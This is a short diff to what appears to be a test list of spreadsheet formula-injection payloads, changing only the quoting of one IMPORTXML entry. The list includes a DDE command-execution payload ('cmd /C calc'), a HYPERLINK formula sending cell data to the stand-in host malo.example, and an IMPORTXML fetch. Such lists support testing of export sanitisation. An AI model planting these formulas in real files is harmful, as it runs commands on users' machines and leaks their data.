@@ -14,7 +14,7 @@ FORMULAS = [
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://malo.example/?d="&A1;"Abrir")',
-    "=IMPORTXML(CONCAT(A1;B1);\"//a\")",
+    '=IMPORTXML(CONCAT(A1;B1);"//a")',
     "+1+1",
     "+SUM(A1:A9)",
     "-1-1",
